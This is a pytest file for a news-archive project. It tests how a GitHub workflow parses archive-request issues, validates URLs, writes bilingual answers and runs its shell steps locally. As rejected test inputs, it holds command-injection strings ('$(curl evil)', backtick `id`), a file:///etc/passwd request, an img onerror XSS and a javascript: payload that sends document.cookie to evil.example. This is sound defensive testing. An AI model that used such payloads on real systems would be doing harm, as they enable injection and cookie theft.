"""The archive-request loop: reading the issue form, the answer on the issue, and the workflow's
own shell steps run on a recorded issue body against a local server (git and a stand-in `gh`)."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from git_support import git
from http_support import LocalServer, Reply
from newsarchive.cli import main
from newsarchive.contrib.request import (
    FIELDS,
    RequestError,
    comment,
    label,
    parse_form,
    parse_request,
    quiet,
    request_url,
)
from saved_pages import saved_pages

ROOT = Path(__file__).resolve().parent.parent
BODY = (ROOT / "tests" / "fixtures" / "archive-request-issue.md").read_text("utf-8")
RECORDED_URL = "https://www.voachinese.com/a/hong-kong-national-security-law-100-days/5617184.html"
WORKFLOW = yaml.safe_load(
    (ROOT / ".github" / "workflows" / "archive-request.yml").read_text("utf-8")
)
JOB = WORKFLOW["jobs"]["archive"]
NEWSARCHIVE = Path(sys.executable).with_name("newsarchive")


def test_the_recorded_issue_body_is_read():
    assert parse_form(BODY) == {
        "url": RECORDED_URL,
        "title": "港版国安法实施百日 香港进行多方整肃",
        "status": "能 / Yes",
        "why": "@someone please archive this: it was **edited** after publication.",
    }
    assert parse_request(BODY.replace("\n", "\r\n")) == {
        "url": RECORDED_URL,
        "title": "港版国安法实施百日 香港进行多方整肃",
        "status": "能 / Yes",
    }


def test_the_parser_knows_every_field_of_the_form():
    form = yaml.safe_load(
        (ROOT / ".github" / "ISSUE_TEMPLATE" / "archive-request.yml").read_text("utf-8")
    )
    labels = {i["id"]: i["attributes"]["label"] for i in form["body"] if i["type"] != "markdown"}
    assert labels == FIELDS
    assert form["labels"] == ["archive request"]


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("javascript:alert(1)", "is not an http(s) address"),
        ("file:///etc/passwd", "is not an http(s) address"),
        ("ftp://example.com/a", "is not an http(s) address"),
        ("https://a.example/x https://b.example/y", "one address only"),
        ('https://a.example/"$(curl evil)"', "one address only"),
        ("https://a.example/`id`", "one address only"),
        ("https://user:pw@a.example/x", "user name or password"),
        ("https://localhost/x", "has no site name"),
        ("https:///x", "has no site name"),
        ("https://a.example:99999/x", "is not a valid address"),
        ("", "names no address"),
    ],
)
def test_only_one_http_address_is_accepted(value, message):
    with pytest.raises(RequestError, match=re.escape(message)):
        request_url(value)


def test_addresses_that_are_accepted():
    assert request_url(" <https://www.rfi.fr/cn/中国/20201012-习近平> ") == (
        "https://www.rfi.fr/cn/中国/20201012-习近平"
    )
    assert request_url("http://a.example/x?y=1#z") == "http://a.example/x?y=1#z"


def test_a_body_without_the_form_is_refused():
    with pytest.raises(RequestError, match="use the archive-request form"):
        parse_request("please archive https://a.example/x")


CAPTURED = {
    "outcome": "new",
    "path": "content/articles/voa/20201016-a-5617184-1a2b3c4d.html",
    "title": "港版国安法实施百日 香港进行多方整肃",
    "url": RECORDED_URL,
    "existing": None,
    "copied_from": None,
    "gone": None,
}
PR = "https://github.com/o/r/pull/7"


def test_the_answer_names_the_pull_request_and_title_in_both_languages():
    text = comment({"capture": CAPTURED}, PR, "https://github.com/o/r/actions/runs/1")
    assert text.startswith("✅ 已抓取《港版国安法实施百日 香港进行多方整肃》，拉取请求：" + PR)
    assert f"✅ Captured “港版国安法实施百日 香港进行多方整肃”: pull request {PR}" in text
    assert "文件：`content/articles/voa/20201016-a-5617184-1a2b3c4d.html`" in text
    assert text.endswith("Run log: https://github.com/o/r/actions/runs/1\n")
    assert label({"capture": CAPTURED}, PR) == "archived"


def test_the_answer_for_a_wayback_copy_and_a_new_capture():
    captured = {
        **CAPTURED,
        "outcome": "new-capture",
        "existing": "content/articles/voa/20201010-old.html",
        "copied_from": "https://web.archive.org/web/20201012140200id_/" + RECORDED_URL,
        "gone": "HTTP 404",
    }
    text = comment({"capture": captured}, PR)
    assert "原网页已无法访问（HTTP 404），存档的是 Wayback Machine 的副本" in text
    assert "The page is gone (HTTP 404); this is the Wayback Machine's copy" in text
    assert "with a different text; both are kept" in text and "两份都会保留" in text


def test_the_answer_for_a_duplicate_and_for_failures():
    duplicate = {"capture": {**CAPTURED, "outcome": "duplicate", "existing": "content/x.html"}}
    assert "already archived with the same text: `content/x.html`" in comment(duplicate)
    assert label(duplicate) == "duplicate"
    failed = {"request": {"url": RECORDED_URL}, "error": "https://x.org/: HTTP 500 Internal"}
    text = comment(failed, None, "https://run")
    assert text.startswith("❌ 未能存档：https://x.org/: HTTP 500 Internal\n")
    assert "❌ Could not archive: https://x.org/: HTTP 500 Internal" in text
    assert label(failed) == "capture failed"
    assert "the workflow stopped before the page was captured" in comment({})
    assert label({}) == "capture failed"
    assert "the pull request could not be opened" in comment({"capture": CAPTURED})
    assert label({"capture": CAPTURED}) == "capture failed"


def test_untrusted_text_is_inert_in_the_answer():
    title = "@org/team [click](https://evil.example) <img src=x onerror=alert(1)>\n### Heading `x`"
    text = comment({"capture": {**CAPTURED, "title": title}}, PR)
    assert "@org" not in text and "@\u200borg/team" in text
    assert "[click](" not in text and "<img" not in text and "\n###" not in text
    assert quiet("a\nb\x00c") == "a b c"


# --- the workflow's own steps, run -------------------------------------------------------------


def test_the_workflow_is_safe_by_construction():
    assert WORKFLOW[True]["issues"]["types"] == ["opened", "labeled"]  # YAML 1.1: `on` is True
    assert WORKFLOW["permissions"] == {}
    assert JOB["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write"}
    assert WORKFLOW["concurrency"]["group"] == "archive-request-${{ github.event.issue.number }}"
    assert "'archive request'" in JOB["if"]
    for step in JOB["steps"]:
        assert "${{" not in step.get("run", ""), step.get("name")  # expressions only via env
    parse = step_named("Read the request")
    assert parse["env"] == {"BODY": "${{ github.event.issue.body }}"}


def step_named(name: str) -> dict:
    return next(s for s in JOB["steps"] if s.get("name") == name)


class Runner:
    """Runs the workflow's shell steps as GitHub's runner would (bash -eo pipefail), with
    `${{ }}` expressions taken from ``values`` and step outputs read from $GITHUB_OUTPUT."""

    def __init__(self, project: Path, temp: Path, values: dict[str, str], env: dict[str, str]):
        self.project, self.temp, self.values, self.env = project, temp, values, env
        self.outputs: dict[str, dict[str, str]] = {}

    def expand(self, text: str) -> str:
        return re.sub(r"\$\{\{\s*(.+?)\s*\}\}", lambda m: self.values[m.group(1)], str(text))

    def run(self, name: str) -> subprocess.CompletedProcess[str]:
        step = step_named(name)
        output = self.temp / f"output-{step.get('id', 'step')}"
        output.write_text("")
        env = {k: self.expand(v) for k, v in {**JOB["env"], **step.get("env", {})}.items()}
        env = {**self.env, **env, "NEWSARCHIVE": str(NEWSARCHIVE)}
        env |= {"RUNNER_TEMP": str(self.temp), "GITHUB_OUTPUT": str(output)}
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
            cwd=self.project,
            env=env,
            capture_output=True,
            text=True,
            timeout=180,
        )
        lines = output.read_text("utf-8").splitlines()
        self.outputs[step.get("id", name)] = dict(line.split("=", 1) for line in lines if line)
        for key, value in self.outputs[step.get("id", name)].items():
            self.values[f"steps.{step['id']}.outputs.{key}"] = value
        return done


@pytest.fixture
def server() -> Iterator[LocalServer]:
    with LocalServer() as local:
        yield local


@pytest.fixture
def runner(tmp_path: Path) -> Runner:
    """A checkout with an `origin` to push to, a stand-in `gh` that logs its calls, the runner's
    temp folder and the values of the workflow's expressions for issue #42."""
    project, origin, temp, bin_dir = (tmp_path / d for d in ("project", "origin", "temp", "bin"))
    for folder in (project / "content" / "articles", temp, bin_dir):
        folder.mkdir(parents=True)
    (project / "content" / "articles" / ".keep").write_text("")
    git(tmp_path, "init", "-q", "--bare", str(origin))
    git(project, "init", "-q", "-b", "main")
    git(project, "add", ".")
    git(project, "commit", "-q", "-m", "base")
    git(project, "remote", "add", "origin", str(origin))
    gh = bin_dir / "gh"
    gh.write_text(
        '#!/bin/sh\nprintf "%s\\n" "$*" >> "$GH_LOG"\n'
        'if [ "$1 $2" = "pr create" ]; then echo ' + PR + "; fi\n"
    )
    gh.chmod(0o755)
    values = {
        "github.event.issue.number": "42",
        "secrets.ARCHIVE_REQUEST_TOKEN || github.token": "token",
        "github.token": "token",
        "github.server_url": "https://github.com",
        "github.repository": "o/r",
        "github.run_id": "1",
        "steps.pr.outputs.url": "",
        "steps.capture.outputs.path": "",
        "steps.capture.outputs.title": "",
    }
    env = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "HOME": str(tmp_path),
        "GH_LOG": str(temp / "gh.log"),
        "NEWSARCHIVE_ALLOW_PRIVATE": "1",  # the article is on the test's local server
    }
    return Runner(project, temp, values, env)


def test_the_workflow_steps_archive_a_requested_article(runner, server):
    page = saved_pages()["voa"]
    server.routes["a/5617184.html"] = Reply(body=page.html.encode("utf-8"))
    url = f"{server.url}/a/5617184.html"
    runner.values["github.event.issue.body"] = BODY.replace(RECORDED_URL, url)

    assert runner.run("Read the request").returncode == 0
    done = runner.run("Capture the article")
    assert done.returncode == 0, done.stderr
    path = runner.outputs["capture"]["path"]
    assert runner.outputs["capture"]["title"] == page.title
    assert path.startswith("content/articles/127-0-0-1/") and (runner.project / path).is_file()

    done = runner.run("Open a pull request")
    assert done.returncode == 0, done.stderr
    assert runner.outputs["pr"] == {"url": PR}
    origin = runner.project.parent / "origin"
    assert git(origin, "ls-tree", "-r", "--name-only", "archive-request/42").split() == [
        "content/articles/.keep",
        path,
    ]
    assert git(origin, "log", "-1", "--format=%s%n%b", "archive-request/42").strip() == (
        f"Archive: {page.title}\nRequested in #42"
    )

    done = runner.run("Answer on the issue")
    assert done.returncode == 0, done.stderr
    answer = (runner.temp / "comment.md").read_text("utf-8")
    assert f"✅ 已抓取《{page.title}》，拉取请求：{PR}" in answer
    assert f"✅ Captured “{page.title}”: pull request {PR}" in answer
    calls = (runner.temp / "gh.log").read_text("utf-8").splitlines()
    assert calls[0].startswith("pr list --head archive-request/42")
    assert calls[1].startswith(
        f"pr create --head archive-request/42 --title 存档 / Archive: {page.title}"
    )
    assert calls[2] == f"issue comment 42 --body-file {runner.temp}/comment.md"
    assert calls[-1] == "issue edit 42 --add-label archived"
    assert (
        main(["check", "--content", str(runner.project / "content"), str(runner.project / path)])
        == 0
    )


def test_the_workflow_steps_answer_a_bad_request(runner):
    body = BODY.replace(RECORDED_URL, "javascript:fetch('//evil.example/'+document.cookie)")
    runner.values["github.event.issue.body"] = body
    parsed = runner.run("Read the request")
    assert parsed.returncode == 1  # the step is continue-on-error; later steps see the outcome
    assert parsed.stderr == "newsarchive: error: give one address only, with no spaces or quotes\n"
    assert step_named("Capture the article")["if"] == "steps.parse.outcome == 'success'"
    assert step_named("Open a pull request")["if"] == "steps.capture.outputs.path != ''"
    assert step_named("Answer on the issue")["if"] == "${{ !cancelled() }}"  # not when replaced
    done = runner.run("Answer on the issue")
    assert done.returncode == 0, done.stderr
    answer = (runner.temp / "comment.md").read_text("utf-8")
    assert answer.startswith("❌ 未能存档：give one address only, with no spaces or quotes\n")
    calls = (runner.temp / "gh.log").read_text("utf-8").splitlines()
    assert calls[-1] == "issue edit 42 --add-label capture failed"
    assert not [c for c in calls if c.startswith("pr ")]


def test_the_workflow_steps_answer_a_page_that_cannot_be_captured(runner, server):
    server.routes["report.pdf"] = Reply(body=b"%PDF-1.4", content_type="application/pdf")
    body = BODY.replace(RECORDED_URL, f"{server.url}/report.pdf")
    runner.values["github.event.issue.body"] = body
    assert runner.run("Read the request").returncode == 0
    assert runner.run("Capture the article").returncode == 1
    assert runner.outputs["capture"] == {}
    assert runner.run("Answer on the issue").returncode == 0
    answer = (runner.temp / "comment.md").read_text("utf-8")
    assert "Could not archive: not a web page: the server sent application/pdf" in answer
    state = json.loads((runner.temp / "request.json").read_text("utf-8"))
    assert state["request"]["url"] == f"{server.url}/report.pdf" and "capture" not in state
